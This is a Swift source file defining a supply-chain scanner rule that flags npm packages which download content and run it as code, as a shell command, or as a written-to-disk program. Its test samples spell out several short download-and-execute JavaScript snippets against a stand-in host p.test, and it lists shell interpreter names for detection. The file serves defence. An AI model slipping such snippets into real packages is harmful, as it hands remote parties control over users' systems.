// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// What the network answers is run: as code, as a command, or as a program that is written to disk and started.
package struct DownloadsAndRuns: Rule {
    package init() {}

    package let card = RuleCard(
        id: "downloads-and-runs", kind: .content, title: "Runs what it downloads", severity: .critical, confidence: .high, status: .stable,
        revision: 1, group: "behaviour",
        rationale:
            "Code that is fetched when it is needed can be anything tomorrow, and nobody who reads the package sees it. eslint-scope 3.7.2 did it with eleven lines.",
        knownFalseAlarms: [
            "A loader of remote modules that says so, with the address in the code.", "A browser page that loads its own scripts.",
        ],
        references: ["https://eslint.org/blog/2018/07/postmortem-for-malicious-package-publishes"],
        fires: [
            RuleSample(
                "as code",
                .sample([
                    "index.js":
                        "require('https').get('https://p.test/raw', r => { let b = ''; r.on('data', c => b += c); r.on('end', () => eval(b)); });"
                ])),
            RuleSample(
                "as code, with promises and another name",
                .sample([
                    "index.js": "const F = Function; (async () => { const r = await fetch('https://p.test/x'); F(await r.text())(); })();"
                ])),
            RuleSample(
                "as a command",
                .sample([
                    "index.js":
                        "const { exec } = require('child_process'); const axios = require('axios'); axios.get('https://p.test/c').then(({ data }) => exec(data));"
                ])),
            RuleSample(
                "as a program",
                .sample([
                    "index.js":
                        "const fs = require('fs'), cp = require('child_process'); fetch('https://p.test/t').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync('/tmp/.t', Buffer.from(b)); fs.chmodSync('/tmp/.t', 0o755); cp.spawn('/tmp/.t', { detached: true }); });"
                ])),
        ],
        staysSilent: [
            RuleSample("a template engine", .sample(["index.js": "exports.compile = (text) => new Function('data', text);"])),
            RuleSample(
                "runs what the user names",
                .sample(["index.js": "exports.load = async (url) => { const r = await fetch(url); return new Function(await r.text()); };"])
            ),
            RuleSample(
                "asks for the latest version, starts git",
                .sample([
                    "index.js":
                        "const cp = require('child_process'); fetch('https://registry.npmjs.org/x').then(r => r.json()).then(v => console.log(v.version)); cp.spawnSync('git', ['status']);"
                ])),
        ]
    )

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        var found: [(flow: Flow, strength: Double, words: String)] = []
        for flow in facts.flows([.download], into: .runsText, .startsProcess) where flow.isNear {
            let isCode = flow.fact.kind == .runsText
            if let strength = strength(flow, facts) {
                found.append((flow, strength, isCode ? "runs a download as code" : "runs a download as a command"))
            }
        }
        for flow in facts.flows([.download], into: .writesFile) where flow.isNear {
            if let strength = program(flow, facts) { found.append((flow, strength, "writes a download to disk and starts a program")) }
        }
        guard let best = found.max(by: { $0.strength < $1.strength }) else { return [] }
        let flow = best.flow
        let hosts = facts.hosts(in: flow.file)
        return [
            card.finding(
                "\(facts.files[flow.file].path) \(best.words)\(hosts.isEmpty ? "" : ", from \(PlainWords.list(hosts, limit: 2))")\(facts.moment(of: flow.fact, in: flow.file).words)\(facts.gateWords(flow.fact))",
                strength: best.strength, evidence: facts.evidence(flow, from: [.download]),
                meaning: "Whoever holds that address decides what runs, today and tomorrow.")
        ]
    }

    private func strength(_ flow: Flow, _ facts: ReleaseFacts) -> Double? {
        let moment = facts.moment(of: flow.fact, in: flow.file)
        let hosts = facts.hosts(in: flow.file).filter { !facts.isOwn($0) }
        // What a server that it starts hears is no download of its own.
        let isServer = facts.behaviour.files[flow.file]?.facts.contains { $0.kind == .listens } == true
        let isHidden = flow.fact.isDisguised || flow.taint.contains(.decrypted)
        guard isHidden || (moment.isByItself && !isServer) || (!hosts.isEmpty && !isServer) else { return nil }
        // A command with a known program and downloaded arguments is a tool at work.
        if flow.fact.kind == .startsProcess, let first = flow.fact.details.first, !first.hasSuffix(" "), !isHidden, !isShell(first) {
            return nil
        }
        var strength = moment.isByItself ? 0.5 : 0.1
        if hosts.isEmpty { strength -= 0.25 }
        if moment == .install { strength += 0.2 }
        if !flow.taint.isDisjoint(with: [.decoded, .decrypted]) { strength += 0.1 }
        if isHidden { strength += 0.4 }
        return strength
    }

    private func isShell(_ text: String) -> Bool {
        ["sh", "bash", "cmd", "cmd.exe", "powershell", "/bin/sh", "/bin/bash", "node", "python", "python3"].contains(text)
    }

    /// A download that is written while the same file starts something that it does not name, or makes a file executable.
    private func program(_ flow: Flow, _ facts: ReleaseFacts) -> Double? {
        let moment = facts.moment(of: flow.fact, in: flow.file)
        // Installers of prebuilt programs do this, and have rules of their own.
        guard moment == .load || flow.fact.isDisguised else { return nil }
        let acts = facts.behaviour.files[flow.file]?.facts ?? []
        let starts = acts.contains { act in
            act.kind == .startsProcess && act.moment == .load
                && (act.details.isEmpty
                    || act.details.contains { detail in flow.fact.details.contains { !$0.isEmpty && detail.contains($0) } })
        }
        guard starts else { return nil }
        let hosts = facts.hosts(in: flow.file).filter { !facts.isOwn($0) }
        return (hosts.isEmpty ? 0.1 : 0.3) + (acts.contains { $0.kind == .makesExecutable } ? 0.1 : 0) + (flow.fact.isDisguised ? 0.4 : 0)
    }
}
